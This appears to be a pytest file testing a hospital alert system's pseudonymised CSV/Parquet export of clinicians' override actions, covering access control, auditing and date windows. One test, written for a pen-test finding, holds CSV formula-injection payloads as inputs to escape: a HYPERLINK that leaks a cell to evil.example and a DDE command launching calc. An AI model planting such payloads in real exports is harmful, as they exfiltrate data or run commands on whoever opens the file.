"""GET /api/v1/exports/overrides/ and `manage.py export_overrides` (CONTRACT.md section 4): one row
per clinician action, pseudonymised, with the top features shown and the outcome when known;
streamed; round-trips through pandas; admins and auditors only; every export audited."""

import io
import math
from datetime import UTC, datetime, timedelta

import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from clinician_ui.exports import COLUMN_NAMES, patient_pseudonym
from clinician_ui.services import alert_action_record
from explanations.models import Explanation
from patients.models import AlertAction, AuditEvent, Encounter, Outcome, Prediction
from tests.fixtures.factories import prediction_create

URL = reverse("export-overrides")


def set_acted_at(record: AlertAction, when: datetime) -> None:
    """Back-date an action as if recorded then (the model itself refuses updates: append-only)."""
    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE {AlertAction._meta.db_table} SET acted_at = %s WHERE id = %s",  # noqa: S608
            [when, record.pk],
        )


@pytest.fixture
def actions(ui_model_version, alice, bob, charlie):
    """Four actions over three alerts in two units, acted on 2026-11-02..05; the first patient's
    encounter has an outcome (died), the others none; the CCU alert's explanation failed."""
    micu = prediction_create(model_version=ui_model_version, unit="MICU", risk=0.71)
    micu2 = prediction_create(model_version=ui_model_version, unit="MICU", risk=0.34)
    ccu = prediction_create(
        model_version=ui_model_version, unit="CCU", risk=0.91, explanation=Explanation.Status.FAILED
    )
    encounter = Encounter.objects.create(external_id="E-100", patient=micu.patient)
    Prediction.objects.filter(pk=micu.pk).update(encounter=encounter)
    Outcome.objects.create(
        encounter=encounter, outcome=True, occurred_at=datetime(2026, 11, 20, 4, 0, tzinfo=UTC)
    )

    records = [
        alert_action_record(alert=micu.alert, user=alice, action="acknowledge", reason="reviewing")[0],
        alert_action_record(
            alert=micu.alert,
            user=alice,
            action="dismiss",
            reason="already_aware",
            comment='Seen on rounds, "plan" in place,\nrecheck lactate',
        )[0],
        alert_action_record(alert=ccu.alert, user=bob, action="escalate", reason="senior_review")[0],
        alert_action_record(alert=micu2.alert, user=charlie, action="accept", reason="treatment_changed")[0],
    ]
    # Acted on out of id order, so ordering by acted_at is visible.
    days = [3, 5, 2, 4]
    for record, day in zip(records, days, strict=True):
        set_acted_at(record, datetime(2026, 11, day, 9, 30, 15, 123456, tzinfo=UTC))
    return {"micu": micu, "micu2": micu2, "ccu": ccu, "records": records}


def expected_rows() -> list[AlertAction]:
    return list(
        AlertAction.objects.select_related("alert__patient", "alert__prediction").order_by("acted_at", "id")
    )


def read_csv(response) -> pd.DataFrame:
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content).decode()
    return pd.read_csv(io.StringIO(body), keep_default_na=False, dtype=str)


def test_csv_round_trips_with_the_database(charlie_client, actions):
    response = charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30", "format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        (response["Content-Disposition"])
        == 'attachment; filename="sightline-overrides_20261101T0000_20261201T0000.csv"'
    )
    frame = read_csv(response)
    assert tuple(frame.columns) == COLUMN_NAMES
    db = expected_rows()
    assert [int(v) for v in frame["action_id"]] == [r.pk for r in db]
    assert list(frame["acted_at"]) == [
        "2026-11-02T09:30:15.123456Z",
        "2026-11-03T09:30:15.123456Z",
        "2026-11-04T09:30:15.123456Z",
        "2026-11-05T09:30:15.123456Z",
    ]
    for (_, row), record in zip(frame.iterrows(), db, strict=True):
        alert, prediction = record.alert, record.alert.prediction
        assert int(row["alert_id"]) == alert.pk
        assert row["patient_pseudonym"] == patient_pseudonym(alert.patient.external_id)
        assert (row["unit"], row["tier"], row["action"], row["reason"]) == (
            alert.unit,
            alert.tier,
            record.action,
            record.reason,
        )
        assert float(row["risk"]) == alert.risk
        assert (row["model_name"], int(row["model_version"])) == ("icu-mortality-30d", 1)
        assert row["comment"] == record.comment
        assert row["user_role"] == record.role
        assert float(row["seconds_to_decision"]) == record.seconds_to_decision
        assert datetime.fromisoformat(row["shown_at"]) == record.shown_at
        assert datetime.fromisoformat(row["scored_at"]) == prediction.scored_at

    by_action = {row["action"]: row for _, row in frame.iterrows()}
    # The dismiss: its reason, its label, its comment with a quote, comma and newline intact.
    dismiss = by_action["dismiss"]
    assert dismiss["reason_label"] == "Already aware, plan in place"
    assert dismiss["comment"] == 'Seen on rounds, "plan" in place,\nrecheck lactate'
    # Top 3 of the stored explanation by |SHAP|: lactate, MAP, ventilation (factories' weights).
    contributions = {c["name"]: c["shap"] for c in actions["micu"].explanation.contributions}
    assert dismiss["top_features"] == (
        f"Lactate ({contributions['lactate']:+.2f}); Mean arterial pressure ({contributions['map']:+.2f}); "
        f"Mechanical ventilation ({contributions['ventilated']:+.2f})"
    )
    # Outcome joined through the encounter when known, empty otherwise.
    assert (dismiss["outcome"], dismiss["outcome_occurred_at"]) == ("true", "2026-11-20T04:00:00Z")
    assert (by_action["accept"]["outcome"], by_action["accept"]["outcome_occurred_at"]) == ("", "")
    # A failed explanation showed no features.
    assert by_action["escalate"]["top_features"] == ""
    assert (by_action["escalate"]["user_role"], by_action["accept"]["user_role"]) == ("clinician", "admin")


def test_pseudonym_is_stable_keyed_and_never_the_real_id_or_name(charlie_client, actions, settings):
    first = read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"}))
    again = read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"}))
    assert list(first["patient_pseudonym"]) == list(again["patient_pseudonym"])
    # Two actions on the MICU alert: one patient, one pseudonym; three patients in all.
    assert first["patient_pseudonym"].nunique() == 3
    patient = actions["micu"].patient
    pseudonym = first.loc[first["action"] == "dismiss", "patient_pseudonym"].item()
    assert len(pseudonym) == 16
    assert pseudonym != patient.external_id
    body = b"".join(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"}).streaming_content)
    for prediction in (actions["micu"], actions["micu2"], actions["ccu"]):
        assert prediction.patient.external_id.encode() not in body
        assert prediction.patient.display_name.encode() not in body
    # A different study key gives different pseudonyms.
    settings.PSEUDONYM_KEY = "another-study"
    rekeyed = read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"}))
    assert rekeyed.loc[rekeyed["action"] == "dismiss", "patient_pseudonym"].item() != pseudonym


def test_parquet_round_trips_in_row_groups(auditor_client, actions, settings):
    settings.EXPORT_CHUNK_SIZE = 3
    response = auditor_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30", "format": "parquet"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.apache.parquet"
    data = b"".join(response.streaming_content)
    parquet = pq.ParquetFile(io.BytesIO(data))
    assert parquet.metadata.num_row_groups == 2  # 4 rows in chunks of 3
    frame = pd.read_parquet(io.BytesIO(data))
    assert tuple(frame.columns) == COLUMN_NAMES
    db = expected_rows()
    assert list(frame["action_id"]) == [r.pk for r in db]
    assert list(frame["risk"]) == [r.alert.risk for r in db]
    assert list(frame["seconds_to_decision"]) == [r.seconds_to_decision for r in db]
    assert [t.to_pydatetime() for t in frame["acted_at"]] == [r.acted_at for r in db]
    assert str(frame["acted_at"].dtype).startswith("datetime64[us, UTC]")
    assert list(frame["patient_pseudonym"]) == [patient_pseudonym(r.alert.patient.external_id) for r in db]
    outcomes = dict(zip(frame["action"], frame["outcome"], strict=True))
    assert outcomes["dismiss"] == True  # noqa: E712 - numpy/pandas bool
    assert outcomes["accept"] is None or (
        isinstance(outcomes["accept"], float) and math.isnan(outcomes["accept"])
    )


def test_csv_is_streamed_chunk_by_chunk(charlie_client, actions, settings):
    settings.EXPORT_CHUNK_SIZE = 1
    response = charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"})
    assert response.streaming
    pieces = list(response.streaming_content)
    assert len(pieces) == 1 + 4  # the header, then one piece per chunk of one row
    assert pieces[0].decode().startswith("action_id,alert_id,patient_pseudonym,")


def test_window_selects_acted_at_from_inclusive_to_exclusive(charlie_client, actions):
    frame = read_csv(charlie_client.get(URL, {"from": "2026-11-03", "to": "2026-11-04"}))
    # A date-only `to` runs to the end of that day: the 3rd and the 4th.
    assert list(frame["action"]) == ["acknowledge", "accept"]
    frame = read_csv(
        charlie_client.get(URL, {"from": "2026-11-03T09:30:15.123456Z", "to": "2026-11-05T09:30:15.123456Z"})
    )
    # Exactly at `to` (the dismiss) is out; exactly at `from` (the acknowledge) is in.
    assert list(frame["action"]) == ["acknowledge", "accept"]
    empty = read_csv(charlie_client.get(URL, {"from": "2025-01-01", "to": "2025-01-02"}))
    assert len(empty) == 0
    assert tuple(empty.columns) == COLUMN_NAMES


def test_auditor_and_admin_may_export_clinicians_and_anonymous_may_not(
    client, alice_client, auditor_client, charlie_client, actions
):
    params = {"from": "2026-11-01", "to": "2026-11-30"}
    for allowed in (auditor_client, charlie_client):
        assert len(read_csv(allowed.get(URL, params))) == 4
    refused = alice_client.get(URL, params)
    assert refused.status_code == 403
    assert refused.json() == {
        "error": "permission_denied",
        "detail": "Only admins and auditors export clinicians' actions.",
        "fields": {},
    }
    anonymous = client.get(URL, params)
    assert anonymous.status_code in (401, 403)
    assert anonymous.json()["error"] in ("not_authenticated", "permission_denied")
    assert list(AuditEvent.objects.filter(action="export").values_list("user__username", flat=True)) == [
        "charlie",
        "auditor",
    ]


def test_each_export_is_audited(charlie, charlie_client, actions):
    before = timezone.now()
    read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30", "format": "csv"}))
    event = AuditEvent.objects.get(action="export")
    assert (event.user, event.patient, event.path) == (
        charlie,
        None,
        f"{URL}?from=2026-11-01&to=2026-11-30&format=csv [4 rows, acted_at from 2026-11-01T00:00:00Z "
        "to 2026-12-01T00:00:00Z]",
    )
    assert event.at >= before
    # Which patients were exported (the file holds only their pseudonyms), and how many rows.
    exported = {a.alert.patient.external_id for a in expected_rows()}
    assert len(exported) == 3
    assert (event.patients, event.rows) == (sorted(exported), 4)


def test_an_export_records_only_the_patients_of_its_window_and_units(auditor_client, actions):
    """Pen test finding 4: the export's audit record named no patient and no row count."""
    auditor_client.get(URL, {"from": "2026-11-04", "to": "2026-11-30", "format": "parquet"})
    event = AuditEvent.objects.get(action="export")
    in_window = [a for a in expected_rows() if a.acted_at >= datetime(2026, 11, 4, tzinfo=UTC)]
    assert event.rows == len(in_window) == 2
    assert event.patients == sorted({a.alert.patient.external_id for a in in_window})
    # A window with no action: an export of nothing, audited as such.
    auditor_client.get(URL, {"from": "2025-01-01", "to": "2025-01-31"})
    empty = AuditEvent.objects.filter(action="export").latest("id")
    assert (empty.patients, empty.rows) == ([], 0)


def test_an_action_recorded_after_the_audit_record_is_not_exported(charlie_client, actions, alice):
    """The rows written are those the audit record counted, even if an action lands meanwhile."""
    response = charlie_client.get(URL, {"from": "2026-11-01", "to": "2099-01-01"})
    alert = actions["micu"].alert
    late = alert_action_record(alert=alert, user=alice, action="escalate", reason="senior_review")
    rows = read_csv(response)
    event = AuditEvent.objects.get(action="export")
    assert late[0].pk not in {int(v) for v in rows["action_id"]}
    assert len(rows) == event.rows


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"to": "2026-11-30"}, "from"),
        ({"from": "yesterday", "to": "2026-11-30"}, "from"),
        ({"from": "2026-11-01", "to": "2026-13-45"}, "to"),
        ({"from": "2026-11-05", "to": "2026-11-01"}, "to"),
        ({"from": "2026-11-01", "to": "2026-11-30", "format": "xlsx"}, "format"),
    ],
)
def test_bad_parameters_are_400_naming_the_field_and_not_audited(charlie_client, actions, params, field):
    response = charlie_client.get(URL, params)
    assert response.status_code == 400
    body = response.json()
    assert body["error"] == "invalid"
    assert list(body["fields"]) == [field]
    assert body["detail"].startswith(f"{field}: ")
    assert not AuditEvent.objects.filter(action="export").exists()


def test_management_command_writes_the_same_rows(charlie_client, actions, tmp_path):
    api = read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"}))
    out = io.StringIO()
    call_command(
        "export_overrides",
        "--from",
        "2026-11-01",
        "--to",
        "2026-11-30",
        "--output",
        str(tmp_path / "x.csv"),
        stdout=out,
    )
    assert f"Wrote 4 actions to {tmp_path / 'x.csv'} (csv)." in out.getvalue()
    command = pd.read_csv(tmp_path / "x.csv", keep_default_na=False, dtype=str)
    pd.testing.assert_frame_equal(api, command)

    call_command(
        "export_overrides",
        "--from",
        "2026-11-01",
        "--to",
        "2026-11-30",
        "--format",
        "parquet",
        "--output",
        str(tmp_path / "x.parquet"),
        stdout=io.StringIO(),
    )
    parquet = pd.read_parquet(tmp_path / "x.parquet")
    assert list(parquet["action_id"]) == [int(v) for v in api["action_id"]]
    assert list(parquet["comment"]) == list(api["comment"])
    events = AuditEvent.objects.filter(action="export", user=None).order_by("id")
    assert [e.path.split(" --output ")[0] for e in events] == [
        "manage.py export_overrides --from 2026-11-01 --to 2026-11-30 --format csv",
        "manage.py export_overrides --from 2026-11-01 --to 2026-11-30 --format parquet",
    ]
    # Each names the patients it wrote (by the ids behind the pseudonyms) and how many rows.
    written = sorted(set(AlertAction.objects.values_list("alert__patient__external_id", flat=True)))
    assert [(e.patients, e.rows) for e in events] == [(written, 4), (written, 4)]


def test_management_command_rejects_a_bad_date(db, tmp_path):
    with pytest.raises(CommandError, match="--from: 'soon' is not an ISO-8601 date"):
        call_command(
            "export_overrides", "--from", "soon", "--to", "2026-11-30", "--output", str(tmp_path / "x.csv")
        )
    assert not (tmp_path / "x.csv").exists()
    assert not AuditEvent.objects.exists()


def test_actions_after_the_window_end_are_left_out(charlie_client, actions):
    late = actions["records"][1]
    set_acted_at(late, datetime(2026, 12, 1, 0, 0, tzinfo=UTC) + timedelta(microseconds=1))
    frame = read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"}))
    assert "dismiss" not in list(frame["action"])
    assert len(frame) == 3


@pytest.mark.parametrize(
    "comment",
    [
        '=HYPERLINK("http://evil.example/?leak="&C2,"x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\tx",
        "\rx",
    ],
)
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(
    charlie_client, alice, ui_model_version, comment
):
    """Pen test finding 2: comments (and a unit posted by the scoring service) were written verbatim,
    so a spreadsheet opening the export ran them. CSV escapes them; Parquet keeps the value."""
    prediction = prediction_create(model_version=ui_model_version, unit="=MICU", risk=0.71)
    alert_action_record(
        alert=prediction.alert, user=alice, action="dismiss", reason="already_aware", comment=comment
    )
    params = {"from": "2000-01-01", "to": "2100-01-01"}

    row = read_csv(charlie_client.get(URL, {**params, "format": "csv"})).iloc[0]
    assert row["comment"] == "'" + comment
    assert row["unit"] == "'=MICU"

    frame = pd.read_parquet(
        io.BytesIO(b"".join(charlie_client.get(URL, {**params, "format": "parquet"}).streaming_content))
    )
    assert frame.iloc[0]["comment"] == comment and frame.iloc[0]["unit"] == "=MICU"


def test_demographics_are_pseudonymised_like_the_patient_id(charlie_client, actions, settings):
    from datetime import date

    from clinician_ui.exports import demographic_pseudonym
    from patients.models import Patient

    micu = actions["micu"].patient
    Patient.objects.filter(pk=micu.pk).update(sex="female", birth_date=date(1950, 3, 5), race="2054-5")
    frame = read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30", "format": "csv"}))
    rows = frame[frame["patient_pseudonym"] == patient_pseudonym(micu.external_id)]
    assert len(rows) >= 1
    scored = actions["micu"].scored_at.date()
    age = scored.year - 1950 - ((scored.month, scored.day) < (3, 5))
    for _, row in rows.iterrows():
        assert row["patient_sex"] == demographic_pseudonym("sex", "female")
        assert row["patient_age"] == demographic_pseudonym("age", age)
        assert row["patient_race"] == demographic_pseudonym("race", "2054-5") != "2054-5"
        assert row["patient_ethnicity"] == ""  # not recorded
    body = frame.to_csv()
    assert "female" not in body and "2054-5" not in body and "1950" not in body
    others = frame[frame["patient_pseudonym"] != patient_pseudonym(micu.external_id)]
    assert set(others["patient_sex"]) == {""}
    assert demographic_pseudonym("sex", "female", key="another key") != demographic_pseudonym("sex", "female")
